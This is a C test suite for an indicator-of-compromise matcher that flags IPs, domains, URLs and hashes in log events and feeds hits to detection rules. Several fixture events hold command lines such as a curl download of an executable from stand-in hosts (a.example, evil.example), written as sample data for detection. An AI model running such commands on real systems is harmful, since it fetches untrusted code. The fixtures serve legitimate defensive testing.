#include "rule/indicator_match.h"

#include "event/normalise.h"
#include "rule/case.h"
#include "rule/indicator_read.h"

#define NOW_NS (INT64_C(1795158000) * 1000000000) /* 2026-11-20 */

static const char list_text[] = "value,type,note,subdomains,expires,valid_from\n"
                                "192.0.2.7,,C2,,,\n"
                                "198.51.100.0/24,,net,,,\n"
                                "2001:db8:bad::/48,,,,,\n"
                                "evil.example,,,,,\n"
                                "wide.example,,,yes,,\n"
                                "пример.рф,,,,,\n"
                                "http://a.example/x.exe,,,,,\n"
                                "44d88612fea8a8f36de82e1278abb02f,,,,,\n"
                                "203.0.113.9,,old,,2026-01-01,\n"
                                "203.0.113.10,,young,,,2027-01-01\n";

struct bench {
    struct arena *arena;
    struct names *names;
    struct indicators *indicators;
    struct indicator_fields *fields;
    struct indicator_matcher *matcher;
};

static void bench_open(struct bench *bench)
{
    struct err err;
    struct indicator_reading reading;
    bench->arena = arena_new((size_t)16 << 20);
    bench->names = names_new(1);
    bench->indicators = indicators_new(3);
    reading = (struct indicator_reading){.indicators = bench->indicators};
    CHECK_INT(indicators_list(bench->indicators, STR("feed.csv"), &err), RC_OK);
    CHECK_INT(indicator_read(&reading, str_of(list_text), &err), RC_OK);
    CHECK_INT(indicators_list_at(bench->indicators, 0).refused, 0);
    indicators_finish(bench->indicators);
    struct str table = case_file(bench->arena, test_source_dir(), "data/indicators.tsv");
    CHECK_INT(indicator_fields_load(table, &bench->fields, &err), RC_OK);
    bench->matcher = indicator_matcher_new(bench->indicators, bench->fields, bench->names);
    CHECK(bench->matcher != NULL);
}

static void bench_close(struct bench *bench)
{
    indicator_matcher_free(bench->matcher);
    indicator_fields_free(bench->fields);
    indicators_free(bench->indicators);
    names_free(bench->names);
    arena_free(bench->arena);
}

static void found_write(struct bench *bench, const struct event *event, struct buf *out)
{
    struct indicator_hit hits[INDICATOR_HITS_MAX];
    size_t count = indicator_matcher_find(bench->matcher, event, hits);
    for (size_t i = 0; i < count; i++)
        buf_format(out, "%s%.*s=%.*s", i ? " " : "", STR_ARG(hits[i].field), STR_ARG(hits[i].value));
}

struct row {
    const char *json;
    const char *found; /* "FIELD=VALUE ..." */
};

static void check_rows(struct bench *bench, const struct row *rows, size_t count)
{
    static struct case_event made;
    for (size_t i = 0; i < count; i++) {
        struct buf out;
        test_row("%s", rows[i].json);
        buf_init(&out, 65536);
        CHECK(case_event_of(&made, bench->arena, bench->names, str_of(rows[i].json)));
        made.event.time_ns = NOW_NS;
        found_write(bench, &made.event, &out);
        CHECK_TEXT(buf_view(&out), rows[i].found);
        buf_done(&out);
    }
}

static void fields_are_looked_at(void)
{
    static const struct row rows[] = {
        {"{\"src_ip\":\"192.0.2.7\"}", "src_ip=192.0.2.7"},
        {"{\"SRC_IP\":\"192.0.2.7\"}", "SRC_IP=192.0.2.7"},
        {"{\"src_ip\":\"::ffff:192.0.2.7\"}", "src_ip=192.0.2.7"},
        {"{\"src_ip\":\"192.0.2.8\"}", ""},
        {"{\"other\":\"192.0.2.7\"}", ""},
        {"{\"src_ip\":\"198.51.100.200\",\"dst_ip\":\"192.0.2.7\"}", "src_ip=198.51.100.0/24 dst_ip=192.0.2.7"},
        {"{\"src_ip\":\"192.0.2.7\",\"dst_ip\":\"192.0.2.7\"}", "src_ip=192.0.2.7"},
        {"{\"DestinationIp\":\"2001:db8:bad:1::5\"}", "DestinationIp=2001:db8:bad::/48"},
        {"{\"DestinationIp\":\"2001:db8:bae::5\"}", ""},
        {"{\"QueryName\":\"EVIL.example.\"}", "QueryName=evil.example"},
        {"{\"QueryName\":\" evil.Example. \"}", "QueryName=evil.example"},
        {"{\"QueryName\":\"evil.exampl\"}", ""},
        {"{\"QueryName\":\"www.evil.example\"}", ""},
        {"{\"QueryName\":\"notevil.example\"}", ""},
        {"{\"QueryName\":\"a.b.wide.example\"}", "QueryName=wide.example"},
        {"{\"QueryName\":\"wide.example\"}", "QueryName=wide.example"},
        {"{\"QueryName\":\"xwide.example\"}", ""},
        {"{\"QueryName\":\"ПРИМЕР.рф\"}", "QueryName=xn--e1afmkfd.xn--p1ai"},
        {"{\"c-uri\":\"https://A.example:443/x.exe\"}", "c-uri=http://a.example/x.exe"},
        {"{\"c-uri\":\"http://evil.example/y\"}", "c-uri=evil.example"},
        {"{\"c-uri\":\"http://192.0.2.7:8080/y\"}", "c-uri=192.0.2.7"},
        {"{\"c-uri\":\"/index.html\"}", ""},
        {"{\"Hashes\":\"SHA1=3395856ce81f2b7382dee72602f798b642f14140,MD5=44D88612FEA8A8F36DE82E1278ABB02F\"}",
         "Hashes=44d88612fea8a8f36de82e1278abb02f"},
        {"{\"md5\":\"44d88612fea8a8f36de82e1278abb02f\"}", "md5=44d88612fea8a8f36de82e1278abb02f"},
        {"{\"CommandLine\":\"curl -o x 'http://a.example/x.exe';\"}", "CommandLine=http://a.example/x.exe"},
        {"{\"message\":\"from (192.0.2.7) to [198.51.100.1]:443, evil.example.\"}",
         "message=192.0.2.7 message=198.51.100.0/24 message=evil.example"},
        {"{\"message\":\"src=192.0.2.7;host=evil.example:80 sum:44d88612fea8a8f36de82e1278abb02f\"}",
         "message=192.0.2.7 message=evil.example message=44d88612fea8a8f36de82e1278abb02f"},
        {"{\"message\":\"1192.0.2.7 192.0.2.77 xevil.example evil.example.com\"}", ""},
        {"{\"message\":\"Eicar(44d88612fea8a8f36de82e1278abb02f:68) FOUND\"}",
         "message=44d88612fea8a8f36de82e1278abb02f"},
        {"{\"message\":\"user@evil.example\"}", "message=evil.example"},
        {"{\"src_ip\":\"203.0.113.9\"}", ""},
        {"{\"src_ip\":\"203.0.113.10\"}", ""},
        {"{\"src_ip\":null,\"dst_ip\":5,\"c-ip\":true}", ""},
    };
    struct bench bench;
    bench_open(&bench);
    check_rows(&bench, rows, ARRAY_LEN(rows));
    indicator_matcher_look_back(bench.matcher);
    static const struct row back[] = {{"{\"src_ip\":\"203.0.113.10\"}", "src_ip=203.0.113.10"},
                                      {"{\"src_ip\":\"203.0.113.9\"}", ""}};
    check_rows(&bench, back, ARRAY_LEN(back));
    bench_close(&bench);
}

/* An indicator that has ended holds for an event of before. */
static void event_time_decides(void)
{
    static struct case_event made;
    struct bench bench;
    struct indicator_hit hits[INDICATOR_HITS_MAX];
    bench_open(&bench);
    CHECK(case_event_of(&made, bench.arena, bench.names, STR("{\"src_ip\":\"203.0.113.9\"}")));
    made.event.time_ns = NOW_NS - INT64_C(365) * 86400 * 1000000000;
    CHECK_INT(indicator_matcher_find(bench.matcher, &made.event, hits), 1);
    made.event.time_ns = NOW_NS;
    CHECK_INT(indicator_matcher_find(bench.matcher, &made.event, hits), 0);
    bench_close(&bench);
}

static struct str field_of(const struct bench *bench, const struct event *event, const char *name)
{
    uint32_t id = names_find(bench->names, str_of(name));
    for (uint32_t i = 0; i < event->field_count; i++)
        if (event->fields[i].name == id)
            return event->fields[i].value;
    return STR_NONE;
}

static void events_tell(void)
{
    static struct case_event made;
    struct bench bench;
    bench_open(&bench);
    CHECK(case_event_of(&made, bench.arena, bench.names, STR("{\"src_ip\":\"192.0.2.7\"}")));
    made.event.statutory[STATUTORY_DESCRIPTION] = STR("seen");
    const struct event *told = indicator_matcher_event(bench.matcher, &made.event);
    CHECK(told != &made.event && made.event.field_count == 1);
    CHECK_TEXT(field_of(&bench, told, "indicator.type"), "address");
    CHECK_TEXT(field_of(&bench, told, "indicator.value"), "192.0.2.7");
    CHECK_TEXT(field_of(&bench, told, "indicator.field"), "src_ip");
    CHECK_TEXT(field_of(&bench, told, "indicator.list"), "feed.csv");
    CHECK_TEXT(field_of(&bench, told, "indicator.note"), "C2");
    CHECK_TEXT(names_text(bench.names, told->logsource.category[0]), "indicator");
    CHECK_TEXT(told->statutory[STATUTORY_DESCRIPTION],
               "seen | indicator.value=192.0.2.7 indicator.list=feed.csv indicator.note=C2");
    CHECK(case_event_of(&made, bench.arena, bench.names, STR("{\"src_ip\":\"192.0.2.9\"}")));
    CHECK(indicator_matcher_event(bench.matcher, &made.event) == &made.event);
    /* full of fields: they make room */
    made.event.fields[0].value = STR("192.0.2.7");
    for (uint32_t i = 1; i < EVENT_FIELDS_MAX; i++)
        made.event.fields[i] = made.event.fields[0];
    made.event.field_count = EVENT_FIELDS_MAX;
    told = indicator_matcher_event(bench.matcher, &made.event);
    CHECK(told->field_count <= EVENT_FIELDS_MAX && told->fields_lost == 6);
    CHECK_TEXT(field_of(&bench, told, "indicator.type"), "address");
    bench_close(&bench);
}

static void lines_are_looked_at(void)
{
    static const struct row rows[] = {
        {"plain line with 192.0.2.7 in it", "raw=192.0.2.7"},
        {"GET http://a.example/x.exe HTTP/1.1", "raw=http://a.example/x.exe"},
        {"{\"a\": \"192.0.2.7\"}", ""},
        {"", ""},
        {"....:::: --- 1.2.3 ::: http:// ://", ""},
    };
    struct bench bench;
    bench_open(&bench);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct buf out;
        struct event event = {.raw = str_of(rows[i].json), .time_ns = NOW_NS, .record_count = 1};
        test_row("%s", rows[i].json);
        buf_init(&out, 4096);
        found_write(&bench, &event, &out);
        CHECK_TEXT(buf_view(&out), rows[i].found);
        buf_done(&out);
    }
    bench_close(&bench);
}

/* What stands in the lines of its records was told by them. */
static void joined_events(void)
{
    static struct case_event made;
    struct bench bench;
    struct indicator_hit hits[INDICATOR_HITS_MAX];
    bench_open(&bench);
    CHECK(case_event_of(&made, bench.arena, bench.names,
                        STR("{\"CommandLine\":\"curl http://evil.example/ 192.0.2.7\",\"src_ip\":\"192.0.2.7\"}")));
    made.event.raw = STR("type=A addr=192.0.2.7\ntype=B a1=6576696C");
    made.event.time_ns = NOW_NS;
    made.event.record_count = 2;
    if (CHECK_INT(indicator_matcher_find(bench.matcher, &made.event, hits), 1))
        CHECK_TEXT(hits[0].value, "evil.example");
    made.event.flags = EVENT_ARCHIVE;
    CHECK_INT(indicator_matcher_find(bench.matcher, &made.event, hits), 2);
    bench_close(&bench);
}

/* A text is looked at up to its bounds, whatever it holds. */
static void texts_are_bounded(void)
{
    struct bench bench;
    struct buf text;
    struct indicator_hit hits[INDICATOR_HITS_MAX];
    bench_open(&bench);
    buf_init(&text, 1 << 20);
    for (unsigned i = 0; i < INDICATOR_WORDS_MAX - 1; i++)
        buf_text(&text, "a.b ");
    buf_text(&text, "192.0.2.7 ");
    struct event event = {.raw = buf_view(&text), .time_ns = NOW_NS, .record_count = 1};
    CHECK_INT(indicator_matcher_find(bench.matcher, &event, hits), 1);
    buf_clear(&text);
    for (unsigned i = 0; i < INDICATOR_WORDS_MAX; i++)
        buf_text(&text, "aa.bb ");
    buf_text(&text, "192.0.2.7 ");
    event.raw = buf_view(&text);
    CHECK_INT(indicator_matcher_find(bench.matcher, &event, hits), 0);
    buf_clear(&text);
    for (unsigned i = 0; i < INDICATOR_SCAN_MAX; i++)
        buf_char(&text, ' ');
    buf_text(&text, "192.0.2.7 ");
    event.raw = buf_view(&text);
    CHECK_INT(indicator_matcher_find(bench.matcher, &event, hits), 0);
    event.raw = str_slice(event.raw, INDICATOR_SCAN_MAX - 100, event.raw.n);
    CHECK_INT(indicator_matcher_find(bench.matcher, &event, hits), 1);
    buf_done(&text);
    bench_close(&bench);
}

/* What pads a URL hides its host neither in a field nor in a text. */
static void long_urls(void)
{
    static struct case_event made;
    struct bench bench;
    struct buf text;
    struct indicator_hit hits[INDICATOR_HITS_MAX];
    bench_open(&bench);
    buf_init(&text, 1 << 16);
    buf_text(&text, "http://evil.example/?");
    for (unsigned i = 0; i < 2 * INDICATOR_TEXT_MAX; i++)
        buf_char(&text, 'a');
    CHECK(case_event_of(&made, bench.arena, bench.names, STR("{\"c-uri\":\"\"}")));
    made.event.fields[0].value = buf_view(&text);
    made.event.raw = STR_NONE;
    made.event.time_ns = NOW_NS;
    if (CHECK_INT(indicator_matcher_find(bench.matcher, &made.event, hits), 1))
        CHECK_TEXT(hits[0].value, "evil.example");
    buf_text(&text, " 192.0.2.7");
    struct event event = {.raw = buf_view(&text), .time_ns = NOW_NS, .record_count = 1};
    if (CHECK_INT(indicator_matcher_find(bench.matcher, &event, hits), 2))
        CHECK_TEXT(hits[0].value, "evil.example");
    buf_done(&text);
    bench_close(&bench);
}

static void bad_tables(void)
{
    static const char *const tables[] = {"", "field\n", "field\tholds\nx\tnothing\n", "field\tholds\n@nosuch\turl\n",
                                         "field\tholds\n\turl\n"};
    for (size_t i = 0; i < ARRAY_LEN(tables); i++) {
        struct indicator_fields *fields = NULL;
        struct err err = {0};
        CHECK_INT(indicator_fields_load(str_of(tables[i]), &fields, &err), RC_INVALID);
        CHECK(err.text[0] != 0);
    }
}

/* A rule that asks for the category sees what holds an indicator, and nothing else. */
static void rules_see_it(void)
{
    static struct case_event made;
    struct bench bench;
    struct rule_set *set = NULL;
    struct err err;
    struct rule_match matches[4];
    size_t count = 0;
    bench_open(&bench);
    struct rules *rules = case_rules(STR(
        "title: A\nid: 5c1f6c1e-0d3f-4c0a-9a53-1f2b7c1d8e90\nlogsource:\n    category: indicator\ndetection:\n    a:\n"
        "        indicator.type: address\n    condition: a\nlevel: high\n"));
    CHECK_INT(rule_set_compile(rules, bench.names, &set, &err), RC_OK);
    struct matcher *matcher = matcher_new(set);
    for (int bad = 0; bad < 2; bad++) {
        CHECK(case_event_of(&made, bench.arena, bench.names,
                            bad ? STR("{\"src_ip\":\"192.0.2.7\"}") : STR("{\"src_ip\":\"192.0.2.8\"}")));
        made.event.time_ns = NOW_NS;
        made.event.logsource.category[0] = names_put(bench.names, STR("process_creation"));
        const struct event *told = indicator_matcher_event(bench.matcher, &made.event);
        CHECK_INT(matcher_event(matcher, told, matches, 4, &count), RC_OK);
        CHECK_INT(count, bad);
        CHECK_INT(naive_match(rules_at(rules, 0), bench.names, told), bad);
    }
    matcher_free(matcher);
    rule_set_free(set);
    rules_free(rules);
    bench_close(&bench);
}

/* A hit switches no rule off that would see the event without it, and on none but those of indicators. */
static void other_rules_see_it(void)
{
    static const struct {
        const char *categories[EVENT_CATEGORIES_OWN];
        int matches[3]; /* of the rules for indicators, for web servers, for any source */
    } rows[] = {
        {{NULL}, {1, 1, 1}},
        {{"webserver"}, {1, 1, 1}},
        {{"network"}, {1, 0, 1}},
        {{"a", "b", "c", "webserver"}, {1, 1, 1}},
        {{"a", "b", "c", "d"}, {1, 0, 1}},
    };
    static const char text[] = "title: A\nlogsource: {category: indicator}\n"
                               "detection: {s: {indicator.type: address}, condition: s}\n"
                               "---\ntitle: B\nlogsource: {category: webserver}\n"
                               "detection: {s: {src_ip: 192.0.2.7}, condition: s}\n"
                               "---\ntitle: C\nlogsource: {product: linux}\n"
                               "detection: {s: {src_ip: 192.0.2.7}, condition: s}\n";
    static struct case_event made;
    struct bench bench;
    struct rule_set *set = NULL;
    struct err err;
    bench_open(&bench);
    struct rules *rules = case_rules(str_of(text));
    CHECK_INT(rules_count(rules), 3);
    CHECK_INT(rule_set_compile(rules, bench.names, &set, &err), RC_OK);
    struct matcher *matcher = matcher_new(set);
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct rule_match matches[4];
        size_t count = 0;
        test_row("%zu", i);
        CHECK(case_event_of(&made, bench.arena, bench.names, STR("{\"src_ip\":\"192.0.2.7\"}")));
        made.event.time_ns = NOW_NS;
        for (size_t c = 0; c < EVENT_CATEGORIES_OWN && rows[i].categories[c]; c++)
            made.event.logsource.category[c] = names_put(bench.names, str_of(rows[i].categories[c]));
        const struct event *told = indicator_matcher_event(bench.matcher, &made.event);
        CHECK_INT(matcher_event(matcher, told, matches, ARRAY_LEN(matches), &count), RC_OK);
        for (size_t r = 0; r < 3; r++) {
            int found = 0;
            for (size_t k = 0; k < count; k++)
                found += matches[k].rule == rules_at(rules, r);
            CHECK_INT(found, rows[i].matches[r]);
            CHECK_INT(naive_match(rules_at(rules, r), bench.names, told), rows[i].matches[r]);
        }
    }
    matcher_free(matcher);
    rule_set_free(set);
    rules_free(rules);
    bench_close(&bench);
}

static const struct test tests[] = {
    {"fields of the table, and their kinds", fields_are_looked_at},
    {"the event's time decides", event_time_decides},
    {"the event that tells of them", events_tell},
    {"lines without fields", lines_are_looked_at},
    {"joined events tell what is new", joined_events},
    {"texts are looked at up to their bounds", texts_are_bounded},
    {"URLs longer than a value", long_urls},
    {"tables that are refused", bad_tables},
    {"rules see the indicator", rules_see_it},
    {"other rules see the event as before", other_rules_see_it},
};

int main(int argc, char **argv)
{
    return test_run(tests, ARRAY_LEN(tests), argc, argv);
}
